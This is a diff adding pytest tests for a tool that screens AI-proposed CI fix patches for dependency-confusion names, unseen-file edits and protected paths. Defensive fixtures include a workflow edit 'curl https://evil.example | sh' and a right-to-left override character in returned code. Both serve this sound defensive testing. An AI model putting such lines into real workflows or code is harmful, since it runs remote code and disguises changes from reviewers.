@@ -7,9 +7,10 @@ from pathlib import Path
 
 import pytest
 
-from ci_healer.models import FileChange, FileEdit, Patch, Proposal
+from ci_healer.dependencies import CONFUSION, check_dependencies, missing_names
+from ci_healer.models import Block, ContextFile, FileChange, FileEdit, Patch, Proposal
 from ci_healer.patch import ProposalError, build_patch, diff_digest
-from ci_healer.policy import PolicyConfig, check_edits_paths, check_patch, detect_cheats
+from ci_healer.policy import PolicyConfig, check_edits_paths, check_patch, check_unseen_files, detect_cheats, review_patch
 from ci_healer.repo import LocalRepo
 from ci_healer.risk import assess
 
@@ -363,3 +364,237 @@ class _EmptyRepo:
 
     def list_paths(self) -> list[str]:
         return []
+
+
+# ------------------------------------------- 11: dependencies a model adds (dependency confusion)
+#
+# A small model asked about ``ModuleNotFoundError: No module named 'yaml'`` added ``yaml`` to
+# requirements.txt. Manifests are allowed (item 11) but what a patch adds to one is checked
+# against what the failure is missing.
+
+PY_FAILURE = (
+    "ImportError while importing test module '/home/runner/work/tidyconf/tidyconf/tests/test_loader.py'.\n"
+    "tests/test_loader.py:3: in <module>\n"
+    "    from tidyconf.loader import load\n"
+    "src/tidyconf/loader.py:5: in <module>\n"
+    "    import yaml\n"
+    "E   ModuleNotFoundError: No module named 'yaml'"
+)
+REQUIREMENTS = "click>=8.1,<9\nplatformdirs>=4.0\n"
+
+
+def added_to(tmp_path, path: str, old: str, original: str, replacement: str) -> Patch:
+    repo = make_repo(tmp_path, {path: old})
+    return build_patch([FileEdit(file_path=path, original=original, replacement=replacement)], repo)
+
+
+DEPENDENCY_CASES = {
+    # (manifest, old text, original, replacement, failure text, expected level or None, fragment)
+    "the import name yaml": ("requirements.txt", REQUIREMENTS, "", "yaml\n", PY_FAILURE, "high", "not the PyPI distribution that provides it, which is `PyYAML`"),
+    "a pinned import name": ("requirements.txt", REQUIREMENTS, "", "yaml==6.0.1\n", PY_FAILURE, "high", "PyYAML"),
+    "a name that does not provide the import": ("requirements.txt", REQUIREMENTS, "", "yamlfix\n", PY_FAILURE, "high", "does not provide the failing import `yaml`"),
+    "an unknown module's own name": (
+        "requirements.txt", REQUIREMENTS, "", "frobnicate\n",
+        "E   ModuleNotFoundError: No module named 'frobnicate'", "high", "cannot verify",
+    ),
+    "the import name in pyproject": (
+        "pyproject.toml", '[project]\nname = "t"\ndependencies = [\n    "click>=8.1",\n]\n',
+        '    "click>=8.1",\n', '    "click>=8.1",\n    "yaml>=6",\n', PY_FAILURE, "high", "PyYAML",
+    ),
+    "the right distribution PyYAML": ("requirements.txt", REQUIREMENTS, "", "PyYAML>=6.0\n", PY_FAILURE, None, ""),
+    "PyYAML in pyproject": (
+        "pyproject.toml", '[project]\nname = "t"\ndependencies = [\n    "click>=8.1",\n]\n',
+        '    "click>=8.1",\n', '    "click>=8.1",\n    "PyYAML>=6",\n', PY_FAILURE, None, "",
+    ),
+    "a version bump is not a new name": ("requirements.txt", REQUIREMENTS, "click>=8.1,<9", "click>=8.1.7,<9", PY_FAILURE, None, ""),
+    "npm: the missing module": (
+        "package.json", '{\n  "dependencies": {\n    "express": "^4.19.2"\n  }\n}\n',
+        '    "express": "^4.19.2"\n', '    "express": "^4.19.2",\n    "lodash": "^4.17.21"\n',
+        "Error: Cannot find module 'lodash/merge'\nRequire stack:\n- /home/runner/work/app/app/src/index.js", None, "",
+    ),
+    "npm: a look-alike name": (
+        "package.json", '{\n  "dependencies": {\n    "express": "^4.19.2"\n  }\n}\n',
+        '    "express": "^4.19.2"\n', '    "express": "^4.19.2",\n    "lodash.js": "^1.0.0"\n',
+        "Error: Cannot find module 'lodash'", "high", "is not the failing module `lodash`",
+    ),
+    "npm: types for a missing declaration file": (
+        "package.json", '{\n  "devDependencies": {\n    "typescript": "^5.4.0"\n  }\n}\n',
+        '    "typescript": "^5.4.0"\n', '    "typescript": "^5.4.0",\n    "@types/lodash": "^4.17.0"\n',
+        "src/a.ts(1,20): error TS7016: Could not find a declaration file for module 'lodash'.", None, "",
+    ),
+    "go: the module of the missing package": (
+        "go.mod", "module example.com/app\n\ngo 1.22\n", "", "\nrequire github.com/stretchr/testify v1.9.0\n",
+        "app_test.go:6:2: no required module provides package github.com/stretchr/testify/assert; to add it:", None, "",
+    ),
+    "go: another module": (
+        "go.mod", "module example.com/app\n\ngo 1.22\n", "", "\nrequire github.com/stretchr/testify-assert v1.0.0\n",
+        "app_test.go:6:2: no required module provides package github.com/stretchr/testify/assert; to add it:",
+        "high", "does not provide the failing package",
+    ),
+    "maven: an artifact cannot be verified": (
+        "pom.xml", "<project>\n  <dependencies>\n  </dependencies>\n</project>\n", "  <dependencies>\n",
+        "  <dependencies>\n    <dependency>\n      <groupId>org.apache.commons</groupId>\n      <artifactId>commons-lang3</artifactId>\n"
+        "      <version>3.14.0</version>\n    </dependency>\n",
+        "[ERROR] /home/runner/work/a/a/src/main/java/A.java:[3,33] package org.apache.commons.lang3 does not exist",
+        "high", "cannot verify that `org.apache.commons:commons-lang3`",
+    ),
+}
+
+
+@pytest.mark.parametrize("path,old,original,replacement,failure,level,fragment", DEPENDENCY_CASES.values(), ids=DEPENDENCY_CASES.keys())
+def test_a_dependency_the_patch_adds_is_checked_against_the_missing_import(tmp_path, path, old, original, replacement, failure, level, fragment):
+    patch = added_to(tmp_path, path, old, original, replacement)
+    findings = check_dependencies(patch.files, failure_text=failure)
+    risk = assess(patch, confidence=0.9, violations=[], cheats=[], findings=findings)
+    if level is None:
+        assert findings == []
+        assert risk.level == "medium"
+        assert any("dependency manifest" in r for r in risk.reasons)
+    else:
+        assert [f.level for f in findings] == [level]
+        assert findings[0].code == "unverified_dependency"
+        assert findings[0].message.startswith(f"{path}: {CONFUSION}")
+        assert fragment in findings[0].message
+        assert risk.level == "high"
+        assert any(CONFUSION in r for r in risk.reasons)
+
+
+def test_missing_names_reads_each_ecosystem_s_message():
+    text = (
+        "E   ModuleNotFoundError: No module named 'google.protobuf'\n"
+        "Module not found: Error: Can't resolve '@acme/ui/button' in '/app/src'\n"
+        "Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'chalk' imported from /app/index.mjs\n"
+        "Cannot find module './local' from 'src/a.test.js'\n"
+        'main.go:4:2: cannot find package "golang.org/x/text/cases" in any of:\n'
+        "A.java:[1,1] package com.google.common.collect does not exist\n"
+    )
+    missing = missing_names(text)
+    assert missing.python == ("google.protobuf",)
+    assert missing.npm == ("@acme/ui", "chalk")
+    assert missing.go == ("golang.org/x/text/cases",)
+    assert missing.java == ("com.google.common.collect",)
+
+
+# ---------------------------------------------- edits and new files the model was not shown
+
+SHOWN = [ContextFile(path="src/app.py", start_line=1, end_line=5, text="", reason="named-in-log")]
+APP = "".join(f"line{i} = {i}\n" for i in range(1, 31))
+TREE = {"src/app.py": APP, "src/util.py": "x = 1\n", "tests/test_app.py": "def test_a():\n    pass\n", "README.md": "# app\n"}
+
+
+def unseen(tmp_path, edits, *, manifests=()):
+    repo = make_repo(tmp_path, TREE)
+    patch = build_patch(edits, repo)
+    return check_unseen_files(patch, context_files=SHOWN, repo_paths=repo.list_paths(), manifests=manifests)
+
+
+UNSEEN_CASES = {
+    "a shown line": ([FileEdit(file_path="src/app.py", original="line3 = 3\n", replacement="line3 = 33\n")], []),
+    "a file not shown": ([FileEdit(file_path="src/util.py", original="x = 1", replacement="x = 2")], [("unseen_file", "medium")]),
+    "lines outside the shown window": (
+        [FileEdit(file_path="src/app.py", original="line20 = 20\n", replacement="line20 = 0\n")],
+        [("unseen_lines", "medium")],
+    ),
+    "a new test next to the others": (
+        [FileEdit(file_path="tests/test_new.py", original="", replacement="def test_b():\n    pass\n")],
+        [("new_file", "medium")],
+    ),
+    "a new file in a folder that does not exist": (
+        [FileEdit(file_path="src/helpers/strings.py", original="", replacement="x = 1\n")],
+        [("new_file", "medium"), ("new_folder", "high")],
+    ),
+    "a requirements.txt where no Python manifest exists": (
+        [FileEdit(file_path="requirements.txt", original="", replacement="yaml\n")],
+        [("new_file", "medium"), ("new_file_kind", "high")],
+    ),
+    "a C header in a Python project": (
+        [FileEdit(file_path="src/app.h", original="", replacement="#pragma once\n")],
+        [("new_file", "medium"), ("new_file_kind", "high")],
+    ),
+}
+
+
+@pytest.mark.parametrize("edits,expected", UNSEEN_CASES.values(), ids=UNSEEN_CASES.keys())
+def test_changes_the_model_was_not_shown_are_findings(tmp_path, edits, expected):
+    findings = unseen(tmp_path, edits)
+    assert [(f.code, f.level) for f in findings] == expected
+    for f in findings:
+        assert edits[0].file_path in f.message
+
+
+def test_appending_to_a_listed_manifest_is_not_an_unseen_edit(tmp_path):
+    repo = make_repo(tmp_path, {**TREE, "requirements.txt": "click\n"})
+    patch = build_patch([FileEdit(file_path="requirements.txt", original="", replacement="rich\n")], repo)
+    listed = check_unseen_files(patch, context_files=SHOWN, repo_paths=repo.list_paths(), manifests=["requirements.txt"])
+    unlisted = check_unseen_files(patch, context_files=SHOWN, repo_paths=repo.list_paths(), manifests=[])
+    assert listed == []
+    assert [f.code for f in unlisted] == ["unseen_file"]
+
+
+def test_review_findings_set_the_badge_and_say_which_check_fired(tmp_path):
+    repo = make_repo(tmp_path, TREE)
+    patch = build_patch(
+        [FileEdit(file_path="src/util.py", original="x = 1", replacement="x = 2"), FileEdit(file_path="src/app.h", original="", replacement="int f(void);\n")],
+        repo,
+    )
+    findings = review_patch(
+        patch, blocks=[Block(start_line=1, end_line=1, reason="x", text="boom")], context_files=SHOWN, repo_paths=repo.list_paths()
+    )
+    risk = assess(patch, confidence=0.9, violations=[], cheats=[], findings=findings)
+    assert risk.level == "high"
+    assert risk.reasons[0] == "creates src/app.h, a `.h` file, but the repository has no file of that kind (new_file_kind)"
+    assert "edits src/util.py, a file the model was not shown (unseen_file)" in risk.reasons
+
+
+def test_a_model_that_adds_the_import_name_gets_a_high_badge_that_says_why(tmp_path):
+    """The real small-model answer to the bundled failure: ``yaml`` appended to requirements.txt."""
+    import shutil
+
+    from ci_healer.engine import analyze
+    from ci_healer.models import Category
+    from ci_healer.render import RenderMeta, render_comment
+
+    example = Path(__file__).resolve().parents[1] / "examples" / "missing-dependency"
+    shutil.copytree(example / "repo", tmp_path / "repo")
+    repo = LocalRepo(tmp_path / "repo", name="tidyconf")
+
+    class Model:
+        name = "fake-model"
+
+        def propose(self, request):
+            edit = FileEdit(file_path="requirements.txt", original="", replacement="yaml\n")
+            return Proposal(root_cause="yaml is missing", category=Category.DEPENDENCY, confidence=0.9, files_to_modify=[edit])
+
+    analysis = analyze(example / "job.log", repo=repo, backend=Model())
+    assert analysis.status == "proposed"
+    assert analysis.risk.level == "high"
+    assert [f.code for f in analysis.findings] == ["unverified_dependency"]
+    body = render_comment(analysis, RenderMeta(proposal_id="1-abc", head_sha="d" * 40, repository="octo/tidyconf"))
+    assert "dependency-confusion risk" in body and "PyYAML" in body
+
+
+# ------------------------------------- 8, 11, 12: a lenient match never widens what a patch can do
+
+
+def test_a_misquoted_workflow_edit_is_still_withheld(tmp_path):
+    """Item 11: the path policy runs before any matching, whatever rule would have matched."""
+    repo = make_repo(tmp_path, {".github/workflows/ci.yml": WORKFLOW})
+    misquote = FileEdit(
+        file_path=".github/workflows/ci.yml",
+        original="- run: pip install -r requirements.txt\n- run: pytest -q\n",  # indentation lost
+        replacement="- run: curl https://evil.example | sh\n- run: pytest -q\n",
+    )
+    assert "protected_path" in codes(check_edits_paths([misquote], PolicyConfig(), repo=repo))
+    patch = build_patch([misquote], repo)  # it does match, ignoring indentation ...
+    assert patch.matches[0].rule == "indentation"
+    assert "protected_path" in codes(check_patch(patch, repo, PolicyConfig()))  # ... and the diff is refused
+
+
+def test_a_lenient_match_is_checked_and_digested_as_its_final_diff(tmp_path):
+    """Items 8 and 12: the digest and the added-line checks see the re-indented result."""
+    repo = make_repo(tmp_path, {"src/app.py": "def f():\n    if x:\n        return 1\n"})
+    patch = build_patch([FileEdit(file_path="src/app.py", original="if x:\n    return 1\n", replacement="if x:\n    return '\u202e1'\n")], repo)
+    assert patch.matches[0].rule == "indentation"
+    assert patch.digest == diff_digest(patch.diff)
+    assert "+        return '\u202e1'\n" in patch.diff
+    assert "control_chars" in codes(check_patch(patch, repo, PolicyConfig()))
